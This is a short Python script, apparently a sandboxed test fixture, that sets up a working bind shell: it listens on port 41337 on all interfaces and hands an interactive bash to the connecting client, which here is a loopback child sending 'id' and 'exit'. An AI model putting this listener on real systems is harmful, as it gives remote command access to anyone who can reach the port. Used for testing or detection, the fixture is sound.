#!/usr/bin/env python3
"""Imitates a Python bind shell: listens on a port and gives the client that connects a shell on the
connection. A child process plays the operator over loopback (sends `id` and `exit`), so the whole
exchange happens inside the sandbox."""
import os
import socket
import time

PORT = 41337
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(('0.0.0.0', PORT))
server.listen(1)
if os.fork() == 0:
    time.sleep(1)
    operator = socket.create_connection(('127.0.0.1', PORT))
    operator.sendall(b'id\nexit\n')
    while operator.recv(512):
        pass
    os._exit(0)
client, _ = server.accept()
if os.fork() == 0:
    for fd in (0, 1, 2):
        os.dup2(client.fileno(), fd)
    os.execv('/bin/bash', ['bash', '-i'])
client.close()
for _ in range(2):
    os.wait()
